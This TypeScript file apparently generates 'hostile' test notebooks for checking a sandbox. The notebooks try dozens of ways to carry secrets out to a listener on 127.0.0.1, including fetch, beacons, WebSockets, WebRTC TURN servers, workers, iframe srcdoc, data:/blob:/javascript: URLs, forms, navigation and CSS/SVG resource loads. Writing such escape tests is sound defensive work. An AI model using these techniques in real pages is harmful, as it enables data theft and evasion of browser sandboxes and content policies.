/** Where a hostile notebook tries to send what it knows. */
export interface Target {
  udp: number;
  tcp: number;
  /** The frame's own script, which its policy knows by hash. */
  hash: string;
}

const notebook = (title: string, cells: readonly string[]): string => `<!doctype html>
<notebook theme="air">
  <title>${title}</title>
${cells.map((cell, i) => `  <script id="${i + 1}" type="module">\n${cell.replaceAll('</script', '<\\/script')}\n  </script>`).join('\n')}
</notebook>`;

/**
 * What a page may ask of a host through its elements; each is put into the document, and then into frames of its own.
 */
const ELEMENTS = (at: string, hash: string): string[] => [
  `<link rel="preconnect" href="${at}preconnect">`,
  `<link rel="preconnect" crossorigin href="${at}preconnect-cors">`,
  `<link rel="dns-prefetch" href="${at}dns-prefetch">`,
  `<link rel="prefetch" href="${at}prefetch">`,
  `<link rel="prerender" href="${at}prerender">`,
  `<link rel="preload" as="script" href="${at}preload" integrity="${hash}">`,
  `<link rel="preload" as="image" href="${at}preload-image">`,
  `<link rel="modulepreload" href="${at}modulepreload" integrity="${hash}">`,
  `<link rel="stylesheet" href="${at}stylesheet">`,
  `<link rel="icon" href="${at}icon">`,
  `<link rel="manifest" href="${at}manifest">`,
  `<script src="${at}script"></script>`,
  `<script src="${at}script-integrity" integrity="${hash}" crossorigin></script>`,
  `<script type="module" src="${at}module" integrity="${hash}"></script>`,
  `<script type="speculationrules">{"prefetch": [{"urls": ["${at}speculation"]}], "prerender": [{"urls": ["${at}prerender-rules"]}]}</script>`,
  `<script type="importmap">{"imports": {"x": "${at}importmap"}, "integrity": {"${at}importmap": "${hash}"}}</script><script type="module">import "x"</script>`,
  `<img src="${at}img">`,
  `<img srcset="${at}srcset 1x">`,
  `<img attributionsrc="${at}attribution" src="data:,">`,
  `<picture><source srcset="${at}source"><img></picture>`,
  `<video src="${at}video" poster="${at}poster" autoplay></video>`,
  `<audio src="${at}audio" autoplay></audio>`,
  `<video><track default src="${at}track"></video>`,
  `<iframe src="data:text/html,<img src='${at}data-frame'>"></iframe>`,
  `<fencedframe></fencedframe>`,
  `<input type="image" src="${at}input">`,
  `<style>@import "${at}import"; @font-face { font-family: f; src: url("${at}font") } body { background: url("${at}background"); font-family: f; cursor: url("${at}cursor"), auto } a::after { content: url("${at}content") }</style>`,
  `<div style="background-image: image-set('${at}image-set' 1x); mask: url('${at}mask'); filter: url('${at}filter#f'); list-style-image: url('${at}list')">x</div>`,
  `<svg><image href="${at}svg-image"/><use href="${at}svg-use#a"/><filter id="f"><feImage href="${at}svg-feimage"/></filter><rect width="9" height="9" filter="url(#f)"/><script href="${at}svg-script"></script></svg>`,
  `<base href="${at}base/">`,
  `<body background="${at}body">`,
  `<table background="${at}table"><tr><td background="${at}cell">x</table>`,
  `<form action="${at}form" method="post"><input name="a" value="secret"><button id="submit">x</button></form>`,
  `<form action="${at}form-get"><input name="a" value="secret"><button formaction="${at}formaction">x</button></form>`,
  `<a ping="${at}ping" href="${at}anchor" attributionsrc="${at}attribution-click">x</a>`,
  `<a href="${at}download" download>x</a>`,
  `<area href="${at}area" ping="${at}area-ping">`,
];

/** What a script opens a connection with, where it has WebRTC. */
const PEER = (udp: number, tcp: number): string => `
  const open = async (Peer) => {
    const servers = [
      {urls: "stun:127.0.0.1:${udp}"},
      {urls: "turn:127.0.0.1:${udp}", username: "secret", credential: "x"},
      {urls: "turn:127.0.0.1:${tcp}?transport=tcp", username: "secret", credential: "x"}
    ];
    for (const iceTransportPolicy of ["all", "relay"]) {
      const peer = new Peer({iceServers: servers, iceTransportPolicy});
      peer.createDataChannel("x");
      await peer.setLocalDescription(await peer.createOffer());
    }
    return "opened";
  };`;

/**
 * A notebook that tries every way out but sending a frame to another address. Its last cell names what it tried: an
 * attempt that ends in an error says so, and only the listeners know whether anything left.
 */
export function hostileNotebook({ udp, tcp, hash }: Target): string {
  const at = `http://127.0.0.1:${tcp}/?secret-`;
  const inFrame = `(async () => { ${PEER(udp, tcp)} await open(window.RTCPeerConnection ?? window.webkitRTCPeerConnection); })()`;
  return notebook(
    'Hostile',
    [
      `
    const tried = [];
    const attempt = async (name, run) => {
      let came;
      try { came = await Promise.race([run(), new Promise((_, fail) => setTimeout(() => fail("no answer"), 1500))]); } catch (error) { came = "stopped: " + error; }
      tried.push(name + ": " + came);
    };
    const child = (set) => { const frame = document.createElement("iframe"); set?.(frame); document.body.append(frame); return frame; };
    ${PEER(udp, tcp)}`,
      `
    const names = Object.getOwnPropertyNames(window).filter((name) => /RTCPeerConnection/.test(name));
    await attempt("webrtc", () => open(window.RTCPeerConnection));
    await attempt("webkit", () => open(window.webkitRTCPeerConnection));
    await attempt("constructor", () => open((0, eval)("RTCPeerConnection")));
    for (const name of names) await attempt(name, () => open(window[name]));
    await attempt("window chain", () => open(Object.getPrototypeOf(window).RTCPeerConnection));
    await attempt("blank child", () => open(child().contentWindow.RTCPeerConnection));
    await attempt("blank child, same task", () => { const f = child(); const P = f.contentWindow.RTCPeerConnection; return open(P); });
    await attempt("about:blank child", () => open(child((f) => { f.src = "about:blank"; }).contentWindow.RTCPeerConnection));
    await attempt("object child", () => { const o = document.createElement("object"); o.data = "about:blank"; o.type = "text/html"; document.body.append(o); return open(o.contentWindow.RTCPeerConnection); });
    await attempt("embed child", () => { const o = document.createElement("embed"); o.src = "about:blank"; o.type = "text/html"; document.body.append(o); return open(window[0].RTCPeerConnection); });
    await attempt("frames", () => open([...Array(window.length).keys()].map((i) => window[i].RTCPeerConnection).find(Boolean)));
    await attempt("window.open", () => open(window.open("about:blank").RTCPeerConnection));
    await attempt("document.open", () => { const f = child(); f.contentDocument.write("<p>x"); return open(f.contentWindow.RTCPeerConnection); });
    await attempt("parent", () => open(window.parent.RTCPeerConnection));`,
      `
    const code = ${JSON.stringify(inFrame)};
    const inChild = async (name, set) => attempt(name, () => { child(set); return new Promise((next) => setTimeout(() => next("made"), 150)); });
    await inChild("srcdoc script", (f) => { f.srcdoc = "<script>" + code + "</scr" + "ipt>"; });
    await inChild("srcdoc onload", (f) => { f.srcdoc = '<body onload="' + code.replaceAll('"', "&quot;") + '">'; });
    await inChild("srcdoc svg", (f) => { f.srcdoc = '<svg onload="' + code.replaceAll('"', "&quot;") + '"></svg><details open ontoggle="' + code.replaceAll('"', "&quot;") + '">'; });
    await inChild("javascript:", (f) => { f.src = "javascript:" + encodeURIComponent(code); });
    await inChild("data:", (f) => { f.src = "data:text/html," + encodeURIComponent("<script>" + code + "</scr" + "ipt>"); });
    await inChild("blob:", (f) => { f.src = URL.createObjectURL(new Blob(["<script>" + code + "</scr" + "ipt>"], {type: "text/html"})); });
    await inChild("sandbox", (f) => { f.sandbox = "allow-scripts allow-same-origin allow-popups allow-top-navigation"; f.srcdoc = "<script>" + code + "</scr" + "ipt>"; });
    await inChild("csp", (f) => { f.setAttribute("csp", "script-src 'unsafe-inline'"); f.srcdoc = "<script>" + code + "</scr" + "ipt>"; });
    await attempt("inline script", () => { const s = document.createElement("script"); s.textContent = code; document.body.append(s); });
    await attempt("blob import", () => { const s = document.createElement("script"); s.type = "module"; s.src = URL.createObjectURL(new Blob([code], {type: "text/javascript"})); document.body.append(s); });
    await attempt("worker", () => new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('${at}worker'); postMessage(1)"]))); w.onmessage = done; w.onerror = fail; }));
    await attempt("shared worker", () => new Promise((done, fail) => { const w = new window.SharedWorker("data:text/javascript,fetch('${at}shared')"); w.onerror = fail; }));
    await attempt("service worker", () => navigator.serviceWorker.register("${at}sw"));
    await attempt("worklet", async () => (await new window.AudioContext().audioWorklet.addModule("${at}worklet")));`,
      `
    const at = "${at}";
    await attempt("fetch", () => fetch(at + "fetch", {mode: "no-cors"}));
    await attempt("fetch of a child", () => child().contentWindow.fetch(at + "fetch-child"));
    await attempt("keepalive", () => fetch(at + "keepalive", {keepalive: true, mode: "no-cors"}));
    await attempt("fetchLater", () => window.fetchLater(at + "later", {activateAfter: 0}));
    await attempt("xhr", () => { const x = new XMLHttpRequest(); x.open("GET", at + "xhr"); x.send(); });
    await attempt("beacon", () => navigator.sendBeacon(at + "beacon", "secret"));
    await attempt("websocket", () => new WebSocket("ws://127.0.0.1:${tcp}/?secret"));
    await attempt("websocket stream", () => new window.WebSocketStream("ws://127.0.0.1:${tcp}/?secret").opened);
    await attempt("eventsource", () => new EventSource(at + "events"));
    await attempt("webtransport", () => new window.WebTransport("https://127.0.0.1:${udp}/secret").ready);
    await attempt("import", () => (0, eval)("import('" + at + "import')"));
    await attempt("import made", () => new Function("return import('" + at + "import-made')")());
    await attempt("import map", () => { const s = document.createElement("script"); s.type = "importmap"; s.text = JSON.stringify({imports: {"y": at + "mapped"}}); document.head.append(s); });
    await attempt("css", () => new window.CSSStyleSheet().replace("@import '" + at + "sheet'; a { background: url(" + at + "sheet-url) }"));
    await attempt("fontface", () => new window.FontFace("x", "url(" + at + "fontface)").load());
    await attempt("image", () => { new Image().src = at + "image"; });
    await attempt("audio", () => new Audio(at + "audio").play());
    await attempt("media session", () => { navigator.mediaSession.metadata = new window.MediaMetadata({artwork: [{src: at + "artwork"}]}); });
    await attempt("payment", () => new window.PaymentRequest([{supportedMethods: at + "pay"}], {total: {label: "x", amount: {currency: "EUR", value: "1"}}}).canMakePayment());
    await attempt("fedcm", () => navigator.credentials.get({identity: {providers: [{configURL: at + "fedcm", clientId: "x"}]}}));
    await attempt("presentation", () => new window.PresentationRequest(at + "presentation").getAvailability());
    await attempt("notification", () => new window.Notification("x", {icon: at + "notification"}));
    await attempt("popup", () => window.open(at + "popup"));
    await attempt("top", () => { window.top.location = at + "top"; });
    await attempt("parent", () => { window.parent.location = at + "parent"; });
    await attempt("link click", () => { const a = document.createElement("a"); a.href = at + "click"; a.ping = at + "click-ping"; a.target = "_blank"; document.body.append(a); a.addEventListener("click", (e) => e.stopImmediatePropagation()); a.click(); });
    await attempt("xslt", () => { const p = new DOMParser().parseFromString('<?xml-stylesheet href="' + at + 'xslt"?><a/>', "text/xml"); document.body.append(document.adoptNode(p.documentElement)); });
    await attempt("background", () => { document.body.style.backgroundImage = "url(" + at + "style)"; });
    await attempt("registration", () => navigator.registerProtocolHandler("web+x", at + "%s"));
    await attempt("auction", () => navigator.joinAdInterestGroup({owner: at, name: "x", updateURL: at + "auction"}, 1));`,
      `
    const elements = ${JSON.stringify(ELEMENTS(at, hash))};
    for (const html of elements) await attempt(html.slice(0, 40), async () => {
      const holder = document.createElement("div");
      document.body.append(holder);
      holder.innerHTML = html;
      holder.append(document.createRange().createContextualFragment(html));
      child((f) => { f.srcdoc = html; });
    });
    for (const rel of ["preconnect", "dns-prefetch", "prefetch", "prerender", "preload", "modulepreload", "stylesheet"]) await attempt("head " + rel, () => {
      const link = Object.assign(document.createElement("link"), {rel, as: "script", integrity: "${hash}", href: "${at}head-" + rel});
      document.head.append(link);
    });
    await attempt("meta csp", () => { const meta = document.createElement("meta"); meta.httpEquiv = "Content-Security-Policy"; meta.content = "default-src *; report-uri ${at}report"; document.head.prepend(meta); new Image().src = "${at}after-meta"; });
    await attempt("script with the hash", () => { const s = Object.assign(document.createElement("script"), {src: "${at}hash", integrity: "${hash}", crossOrigin: "anonymous"}); document.head.append(s); });
    await new Promise((next) => setTimeout(next, 1500));
    display(html\`<ul class="tried">\${tried.map((line) => html\`<li>\${line}\`)}</ul>\`);`,
    ].map((cell, i) => `await ${i < 2 ? 'null' : `step${i - 1}`};${cell}\nconst step${i} = true;`),
  );
}

/**
 * Notebooks that each try to carry something away in an address to which they send their own document, or a frame in
 * it.
 */
export function leavingNotebooks({ tcp }: Target): { name: string; html: string }[] {
  const at = `http://127.0.0.1:${tcp}/?secret-`;
  const ways = {
    href: `window.location.href = "${at}href";`,
    replace: `window.location.replace("${at}replace");`,
    open: `window.open("${at}self", "_self");`,
    link: `const a = document.createElement("a"); a.href = "${at}link"; document.body.append(a); a.addEventListener("click", (event) => event.stopImmediatePropagation()); a.click();`,
    form: `const f = document.createElement("form"); f.action = "${at}form"; document.body.append(f); f.submit();`,
    refresh: `const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=${at}refresh"; document.head.append(m);`,
    data: `window.location.href = "data:text/html,<script>new Image().src='${at}data'</scr" + "ipt>";`,
    blob: `window.location.href = URL.createObjectURL(new Blob(["<img src='${at}blob'>"], {type: "text/html"}));`,
    script: `window.location.href = "javascript:'<img src=${at}javascript>'";`,
    download: `const a = document.createElement("a"); a.href = "${at}download"; a.download = "x"; document.body.append(a); a.addEventListener("click", (event) => event.stopImmediatePropagation()); a.click();`,
    navigation: `navigation.navigate("${at}navigation");`,
    top: `const f = document.createElement("form"); f.action = "${at}top"; f.method = "post"; f.target = "_top"; document.body.append(f); f.submit();`,
    iframe: `document.body.insertAdjacentHTML("beforeend", '<iframe src="${at}iframe"></iframe><object data="${at}object"></object><embed src="${at}embed">');`,
    child: `const f = document.createElement("iframe"); f.name = "kid"; document.body.append(f); f.contentWindow.location = "${at}child"; window.open("${at}named", "kid");`,
    post: `const k = document.createElement("iframe"); k.name = "kid"; document.body.append(k); const f = document.createElement("form"); f.action = "${at}post"; f.method = "post"; f.target = "kid"; f.innerHTML = "<input name=a value=secret>"; document.body.append(f); f.submit();`,
    write: `document.open(); document.write("<img src='${at}write'><script>new RTCPeerConnection()</scr" + "ipt>"); document.close();`,
  };
  return Object.entries(ways).map(([name, way]) => ({ name, html: notebook(`Leaving by ${name}`, [way]) }));
}
